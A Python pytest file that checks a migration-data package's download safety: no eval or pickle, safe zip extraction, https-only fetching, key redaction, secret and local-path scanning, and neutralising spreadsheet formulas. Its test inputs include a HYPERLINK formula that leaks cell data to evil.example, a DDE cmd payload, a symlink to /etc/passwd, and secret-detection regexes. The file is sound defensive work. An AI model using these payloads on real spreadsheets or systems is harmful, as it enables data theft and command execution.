"""What a download may never do: run code, escape its folder, travel in clear text, or leak a key.

And a scan of every tracked file for committed secrets.
"""

from __future__ import annotations

import ast
import io
import json
import re
import secrets
import stat
import subprocess
import zipfile

import faultserver as fs
import pytest

from migrationdata.catalog import Column, Source, Table, all_sources
from migrationdata.errors import DataError, FetchError
from migrationdata.fetch import check_url, fetch_source, redact, redact_url, safe_extract_zip
from migrationdata.paths import PACKAGE_DIR, REPO_DIR

# ----------------------------------------------------------------------------- no code from data

#: calls and imports that would run code hidden in downloaded bytes
FORBIDDEN_CALLS = {"eval", "exec", "__import__"}
FORBIDDEN_MODULES = {"pickle", "cPickle", "marshal", "shelve", "dill", "cloudpickle", "joblib"}
FORBIDDEN_METHODS = {"read_pickle", "unsafe_load", "full_load", "loads_pickle"}


def code_from_data(source: str, name: str = "<src>") -> list[str]:
    """Every place in ``source`` that could execute or unpickle data."""
    found = []
    for node in ast.walk(ast.parse(source, name)):
        where = f"{name}:{getattr(node, 'lineno', '?')}"
        if isinstance(node, ast.Import | ast.ImportFrom):
            mods = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
            found += [f"{where} imports {m}" for m in mods if m.split(".")[0] in FORBIDDEN_MODULES]
        elif isinstance(node, ast.Call):
            fn = node.func
            if isinstance(fn, ast.Name) and fn.id in FORBIDDEN_CALLS:
                found.append(f"{where} calls {fn.id}()")
            elif isinstance(fn, ast.Attribute):
                if fn.attr in FORBIDDEN_METHODS:
                    found.append(f"{where} calls .{fn.attr}()")
                # yaml.load without a safe loader builds arbitrary Python objects
                if fn.attr == "load" and isinstance(fn.value, ast.Name) and fn.value.id == "yaml":
                    loader = next((k.value for k in node.keywords if k.arg == "Loader"), None)
                    if not (
                        isinstance(loader, ast.Attribute) and loader.attr in ("SafeLoader", "CSafeLoader")
                    ):
                        found.append(f"{where} calls yaml.load without SafeLoader")
                # numpy.load(allow_pickle=True)
                if fn.attr == "load" and any(
                    k.arg == "allow_pickle" and getattr(k.value, "value", False) for k in node.keywords
                ):
                    found.append(f"{where} loads with allow_pickle=True")
    return found


def test_the_scanner_catches_what_it_looks_for():
    bad = (
        "import pickle\nfrom marshal import loads\nx = eval(data)\nexec(code)\n"
        "import pandas as pd\npd.read_pickle(p)\nimport yaml\nyaml.load(t)\nyaml.load(t, Loader=yaml.Loader)\n"
        "import numpy as np\nnp.load(p, allow_pickle=True)\n"
    )
    assert len(code_from_data(bad)) == 8
    good = (
        "import yaml\nyaml.safe_load(t)\nyaml.load(t, Loader=yaml.SafeLoader)\nimport re\nre.compile('x')\n"
    )
    assert code_from_data(good) == []


#: the notebook runner executes the project's own notebooks (that is what running one means);
#: it reads code from notebooks/, never from a download, so it is the one module allowed exec
RUNS_NOTEBOOKS = PACKAGE_DIR / "runner.py"


def test_no_eval_or_pickle_on_downloaded_bytes():
    files = [f for f in sorted(PACKAGE_DIR.rglob("*.py")) if f != RUNS_NOTEBOOKS]
    assert len(files) >= 8  # the package, not an empty folder
    found = [hit for f in files for hit in code_from_data(f.read_text(encoding="utf-8"), str(f))]
    assert found == []
    # the runner's exec calls, and nothing else that executes or unpickles data
    runner = code_from_data(RUNS_NOTEBOOKS.read_text(encoding="utf-8"), "runner.py")
    assert runner and all(hit.endswith("calls exec()") for hit in runner), runner


# ----------------------------------------------------------------------------- archives


def make_zip(members: dict[str, bytes], symlink: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, "/etc/passwd")
    return buf.getvalue()


@pytest.mark.parametrize(
    "members, symlink",
    [
        ({"data.csv": b"a\n1\n", "../escaped.csv": b"x\n"}, None),
        ({"/tmp/absolute.csv": b"x\n"}, None),  # not-a-local-path: a hostile archive's member
        ({"sub/../../escaped.csv": b"x\n"}, None),
        ({"C:\\\\escaped.csv": b"x\n"}, None),
        ({"data.csv": b"a\n1\n"}, "link.csv"),
    ],
    ids=["dot-dot", "absolute", "nested-dot-dot", "drive-letter", "symlink"],
)
def test_archive_members_cannot_escape_their_folder(tmp_path, members, symlink):
    archive = tmp_path / "download.zip"
    archive.write_bytes(make_zip(members, symlink))
    dest = tmp_path / "out" / "inside"
    with pytest.raises(DataError, match="outside its folder"):
        safe_extract_zip(archive, dest, max_bytes=1_000_000, source="demo")
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and p != archive and dest not in p.parents]
    assert outside == []


def test_a_good_archive_unpacks_and_a_bomb_does_not(tmp_path):
    archive = tmp_path / "good.zip"
    archive.write_bytes(make_zip({"data/a.csv": b"n\n1\n", "b.csv": b"n\n2\n"}))
    got = safe_extract_zip(archive, tmp_path / "out", max_bytes=1_000)
    assert sorted(p.relative_to(tmp_path / "out").as_posix() for p in got) == ["b.csv", "data/a.csv"]
    assert (tmp_path / "out" / "data" / "a.csv").read_bytes() == b"n\n1\n"
    bomb = tmp_path / "bomb.zip"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.csv", b"0" * 5_000_000)
    bomb.write_bytes(buf.getvalue())
    assert bomb.stat().st_size < 50_000
    with pytest.raises(DataError, match="size guard"):
        safe_extract_zip(bomb, tmp_path / "bomb", max_bytes=1_000_000)
    assert not (tmp_path / "bomb" / "zeros.csv").exists()


# ----------------------------------------------------------------------------- https only


def test_every_declared_address_is_https():
    sources = all_sources()
    assert {"darien", "cbp", "bts", "trade"} <= {s.id for s in sources}
    for src in sources:
        assert src.landing_page.startswith("https://"), src.id
        for rf in src.files:
            assert rf.url.startswith("https://"), (src.id, rf.name)
    # and no plain-http address hides in a source module's constants
    for path in sorted((PACKAGE_DIR / "sources").glob("*.py")):
        assert "http://" not in path.read_text(encoding="utf-8"), path.name


@pytest.mark.parametrize(
    "url, ok",
    [
        ("https://www.cbp.gov/x.csv", True),
        ("http://www.cbp.gov/x.csv", False),
        ("ftp://example.org/x.csv", False),
        ("http://127.0.0.1:8000/cbp/x.csv", True),
        ("http://localhost/cbp/x.csv", True),
        ("http://[::1]:8000/cbp/x.csv", True),
        ("http://127.0.0.1.example.org/x.csv", False),
    ],
)
def test_plain_http_only_for_a_mirror_on_this_machine(url, ok):
    if ok:
        check_url("demo", url)
    else:
        with pytest.raises(FetchError, match="only https"):
            check_url("demo", url)


# ----------------------------------------------------------------------------- keys


def test_credentials_are_hidden_in_urls():
    assert redact_url("https://api.census.gov/data?get=A&key=abc123def456&time=2023") == (
        "https://api.census.gov/data?get=A&key=REDACTED&time=2023"
    )
    assert "s3cr3t" not in redact_url("https://data.bts.gov/resource/x.csv?$$app_token=s3cr3tvalue&$limit=5")
    assert redact_url("https://user:pw@example.org/x") == "https://REDACTED@example.org/x"  # not-a-local-path
    assert (
        redact_url("https://www.cbp.gov/x.csv?accessType=DOWNLOAD")
        == "https://www.cbp.gov/x.csv?accessType=DOWNLOAD"
    )


def api_source(base: str, table: Table) -> Source:
    """A source that is an API with a key, like the Census trade API, served on loopback."""

    def download(fetcher):
        import os

        key = os.environ["MIGRATIONDATA_CENSUS_KEY"]
        url = f"{base}/api/totals.json"
        data = fetcher.get_bytes(url, "json", 10_000, params={"get": "ALL_VAL_MO", "key": key})
        # a careless module might record the URL it called, key and all
        return {
            "totals.json": fetcher.stage_bytes("totals.json", data, f"{url}?get=ALL_VAL_MO&key={key}").path
        }

    def process(paths):
        import pandas as pd

        rows = json.loads(paths["totals.json"].read_text())
        return {table.name: pd.DataFrame({"n": [int(r[0]) for r in rows[1:]]})}

    return Source(
        id="api",
        title="demo API",
        publisher="demo",
        landing_page="https://example.org",
        files=(),
        tables=(table,),
        process=process,
        download=download,
    )


@pytest.fixture
def demo_table(monkeypatch):
    import pandera.pandas as pa

    table = Table(
        "api_demo",
        "demo",
        "demo",
        (Column("n", "integer", "a count"),),
        ("n",),
        lambda: pa.DataFrameSchema({"n": pa.Column("Int64")}, coerce=True),
    )
    # the demo table belongs to no catalogued source: let the data dictionary skip it
    monkeypatch.setattr("migrationdata.processed.all_sources", lambda: [])
    return table


@pytest.mark.mirror
def test_an_api_key_never_reaches_the_manifest_or_a_message(servers, tmp_data, monkeypatch, demo_table):
    key = secrets.token_hex(20)  # the shape of a Census key
    monkeypatch.setenv("MIGRATIONDATA_CENSUS_KEY", key)
    servers.reset()
    servers.http.serve_body("api", "totals.json", b'[["ALL_VAL_MO"],["41"],["7"]]')
    ok = fetch_source(api_source(servers.http.base, demo_table), base=tmp_data)
    assert ok.status == "updated", ok.error
    manifest = (tmp_data / "manifest.json").read_text()
    assert key not in manifest and "key=REDACTED" in manifest
    assert (tmp_data / "processed" / "api_demo.csv").read_text() == "n\n7\n41\n"
    assert not any(key in p.read_text(errors="replace") for p in tmp_data.rglob("*") if p.is_file())

    # a failure: the transport error's own text carries the full URL, query and all
    dead = f"http://127.0.0.1:{fs.dead_port()}"
    failed = fetch_source(api_source(dead, demo_table), base=tmp_data)
    assert failed.status == "failed"
    assert "refused the connection" in failed.error and "key=REDACTED" in failed.error
    assert key not in failed.error
    # an answer the project refuses names the URL without the key too
    servers.http.inject("api", "totals.json", fs.always(500))
    failed = fetch_source(api_source(servers.http.base, demo_table), base=tmp_data)
    assert "HTTP 500" in failed.error and key not in failed.error
    assert redact(f"tried {key}", set()) == "tried REDACTED"  # found through the environment


# ----------------------------------------------------------------------------- committed secrets

SECRET_PATTERNS = {
    "private key": r"-----BEGIN (?:RSA |EC |DSA |OPENSSH |PGP |ENCRYPTED )?PRIVATE KEY-----",
    "AWS access key": r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b",
    "GitHub token": r"\b(?:gh[pousr]_[A-Za-z0-9]{36,}|github_pat_[A-Za-z0-9_]{22,})\b",
    "Slack token": r"\bxox[abprs]-[A-Za-z0-9-]{10,}",
    "Google API key": r"\bAIza[0-9A-Za-z_\-]{35}\b",
    "key in a URL": r"(?i:[?&](?:key|api_?key|token|access_token|\$\$app_token)=[A-Za-z0-9_\-]{16,})",
    "key assigned in code": r"(?i:\b\w*(?:api_?key|secret|token|password)\b\s*[:=]\s*['\"][A-Za-z0-9_\-+/]{20,}['\"])",
}
ALLOW = "not-a-secret"  # put on a line that only looks like a secret (a test's fake key)


ANY_SECRET = re.compile("|".join(f"(?:{p})" for p in SECRET_PATTERNS.values()))


def find_secrets(text: str) -> list[str]:
    if not ANY_SECRET.search(text):  # one pass over the whole file first: most have nothing
        return []
    hits = []
    for line_no, line in enumerate(text.splitlines(), 1):
        if ALLOW in line:
            continue
        hits += [f"line {line_no}: {kind}" for kind, pat in SECRET_PATTERNS.items() if re.search(pat, line)]
    return hits


def test_the_secret_patterns_catch_secrets():
    fakes = [
        "-----BEGIN " + "RSA PRIVATE KEY-----",
        "aws = 'AKIA" + "Q" * 16 + "'",
        "token = 'ghp_" + "a1" * 18 + "'",
        "https://api.census.gov/data?get=X&key=" + "0f" * 20,
        "CENSUS_API_KEY = '" + "9" * 40 + "'",
        "slack: xoxb-" + "1234567890-abc",
        "AIza" + "B" * 35,
    ]
    assert all(find_secrets(f) for f in fakes)
    assert find_secrets("key = os.environ.get('MIGRATIONDATA_CENSUS_KEY')") == []
    assert find_secrets("https://data.bts.gov/api/views/keg4-3bc2/rows.csv?accessType=DOWNLOAD") == []


def test_no_secrets_are_committed():
    try:
        listed = subprocess.run(
            ["git", "ls-files", "-z"], cwd=REPO_DIR, capture_output=True, check=True, timeout=60
        ).stdout
    except (OSError, subprocess.CalledProcessError) as exc:
        pytest.skip(f"not a git checkout ({exc})")
    files = [REPO_DIR / n for n in listed.decode().split("\0") if n]
    assert len(files) > 20
    found = []
    for path in files:
        if not path.is_file() or path.stat().st_size > 20_000_000:
            continue
        data = path.read_bytes()
        if b"\0" in data[:8192]:
            continue  # binary (images, workbooks)
        found += [
            f"{path.relative_to(REPO_DIR)} {hit}" for hit in find_secrets(data.decode("utf-8", "replace"))
        ]
    assert found == [], "possible secrets in tracked files (mark a fake with 'not-a-secret'):\n" + "\n".join(
        found
    )


# ----------------------------------------------------------------------------- local paths

#: what only one machine knows: absolute paths of home, work and temporary folders, file://
#: addresses, and passwords in URLs
LOCAL_PATTERNS = {
    "file:// address": r"file://(?:localhost)?/\w",
    "absolute local path": r"(?<![\w.:/<])/(?:home|Users|root|work|tmp|mnt|media|private|var/folders)/[\w.-]+",
    "Windows user folder": r"\b[A-Za-z]:\\+(?:Users|Documents and Settings)\\",
    "password in a URL": r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:[^/\s@'\"]+@",
}
LOCAL_ALLOW = "not-a-local-path"  # on a line that must show such a path (a test's hostile input)
ANY_LOCAL = re.compile("|".join(f"(?:{p})" for p in LOCAL_PATTERNS.values()))


def find_local(text: str, machine: tuple[str, ...] = ()) -> list[str]:
    if not ANY_LOCAL.search(text) and not any(m in text for m in machine):
        return []
    hits = []
    for line_no, line in enumerate(text.splitlines(), 1):
        if LOCAL_ALLOW in line:
            continue
        hits += [f"line {line_no}: {kind}" for kind, pat in LOCAL_PATTERNS.items() if re.search(pat, line)]
        hits += [f"line {line_no}: this machine's path {m}" for m in machine if m in line]
    return hits


def test_the_local_path_patterns_catch_local_paths():
    fakes = [
        '"final_url": "file:///work/shared/data/bts/x.csv"',  # not-a-local-path
        '"mirror": "/work/shared/data"',  # not-a-local-path
        "read from /home/reporter/archive/cbp.csv",  # not-a-local-path
        r"C:\Users\reporter\Desktop\x.csv",  # not-a-local-path
        '"url": "https://user:hunter2@mirror.example.org/cbp/x.csv"',  # not-a-local-path
        "https://REDACTED:pw@example.org/x",  # not-a-local-path
    ]
    assert all(find_local(f) for f in fakes), [f for f in fakes if not find_local(f)]
    fine = [
        '"mirror": "mirror"',  # not-a-local-path
        "https://www.cbp.gov/sites/default/files/assets/documents/2023-Nov/x.csv",  # not-a-local-path
        "data/raw/cbp/x.csv and <data>/raw",  # not-a-local-path
        "https://REDACTED@example.org/x",  # not-a-local-path
        "git@github.com:owner/repo.git",  # not-a-local-path
    ]
    assert [f for f in fine if find_local(f)] == []


def test_no_local_paths_or_credentials_are_committed():
    """Committed files are read on other machines: no path of this one (the repository's own
    location, the home folder, a mirror folder), no file:// address, no password in a URL."""
    try:
        listed = subprocess.run(
            ["git", "ls-files", "-z"], cwd=REPO_DIR, capture_output=True, check=True, timeout=60
        ).stdout
    except (OSError, subprocess.CalledProcessError) as exc:
        pytest.skip(f"not a git checkout ({exc})")
    import os

    machine = tuple(p for p in {str(REPO_DIR), str(REPO_DIR.parent), os.path.expanduser("~")} if len(p) > 5)
    files = [REPO_DIR / n for n in listed.decode().split("\0") if n]
    assert any(f.name == "manifest.json" for f in files)
    found = []
    for path in files:
        if not path.is_file() or path.stat().st_size > 20_000_000:
            continue
        data = path.read_bytes()
        if b"\0" in data[:8192]:
            continue
        found += [
            f"{path.relative_to(REPO_DIR)} {hit}"
            for hit in find_local(data.decode("utf-8", "replace"), machine)
        ]
    assert found == [], "machine-specific paths or credentials in tracked files:\n" + "\n".join(found)


@pytest.mark.parametrize(
    "there, ok",
    [
        ("https://www.cbp.gov/moved/x.csv", True),  # same site, another host name
        ("https://cbp.gov/x.csv", True),
        ("https://objects.githubusercontent.com/x.csv", True),  # listed by the source
        ("https://cbp.gov.example.org/x.csv", False),
        ("https://evil.example/x.csv", False),
        ("http://www.cbp.gov/x.csv", False),  # a downgrade
    ],
)
def test_redirect_policy(tmp_path, there, ok, make_source):
    from migrationdata.fetch import Fetcher

    src = make_source(
        landing_page="https://www.cbp.gov", extra={"redirect_hosts": ("objects.githubusercontent.com",)}
    )
    fetcher = Fetcher(src, tmp_path, tmp_path / "stage", session=object())
    origin = "https://www.cbp.gov/sites/default/files/x.csv"
    if ok:
        fetcher._check_redirect(origin, origin, there)
    else:
        with pytest.raises(FetchError, match="redirected"):
            fetcher._check_redirect(origin, origin, there)


# ----------------------------------------------------------------------------- spreadsheet-safe tables

#: text a hostile or careless publisher could put in a free-text field (OWASP's examples)
HOSTILE_LOCATION = '=HYPERLINK("https://evil.example/leak?x="&A1,"see the map")'
HOSTILE_CAUSE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_cells(text: str) -> list[str]:
    import csv

    from migrationdata.store import _NUMBER, FORMULA_TRIGGERS

    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(cell)
    ]


@pytest.mark.mirror
def test_a_hostile_text_from_the_publisher_lands_inert_in_the_processed_table(servers, mirror, tmp_data):
    """IOM's free-text fields reach missing_migrants_incidents verbatim: a place and a cause
    written as formulas, served from the loopback server in a real R file, are written with an
    apostrophe (and a warning naming the table, column and row), read back exactly by the
    loader, and the numbers beside them (a negative longitude) stay numbers."""
    import scenarios as sc

    from migrationdata import processed
    from migrationdata.catalog import get_source

    def hostile(df):
        # the deadliest incident on the route in August 2023: 27 dead and missing, Oaxaca
        i = sc._mmp_largest_on_route(df)
        df.loc[i, "location"] = HOSTILE_LOCATION
        df.loc[i, "cause"] = HOSTILE_CAUSE
        return df

    true = (mirror / "missing-migrants" / "iom_mmp.rda").read_bytes()
    servers.reset()
    servers.http.serve_body("missing-migrants", "iom_mmp.rda", sc._rda_edit("iom_mmp", hostile)(true))
    rep = fetch_source(get_source("missing_migrants"), mirror=servers.http.base, base=tmp_data)
    assert rep.status == "updated", rep.error
    said = " ".join(rep.warnings)
    assert "missing_migrants_incidents: 1 text cell in location began like a spreadsheet formula" in said
    assert "date=2023-08-07, seq=5" in said and "1 text cell in cause" in said

    text = (tmp_data / "processed" / "missing_migrants_incidents.csv").read_text(encoding="utf-8")
    assert _formula_cells(text) == []
    [line] = [ln for ln in text.splitlines() if ln.startswith("2023-08-07,5,")]
    assert ",MEX,Mexico,,27,," in line and "'@SUM(1+1)" in line and "'=HYPERLINK(" in line
    assert line.endswith(",16.252671,-94.446526")  # a negative number, written as a number

    df = processed.read("missing_migrants_incidents", tmp_data)
    row = df[(df["date"] == "2023-08-07") & (df["seq"] == 5)].iloc[0]
    assert (row["location"], row["cause"]) == (HOSTILE_LOCATION, HOSTILE_CAUSE)
    assert row["longitude"] == -94.446526 and row["dead_and_missing"] == 27
    # every other text cell is as a clean fetch writes it: nothing else gained an apostrophe
    assert text.count("'=") == 1 and text.count("'@") == 1
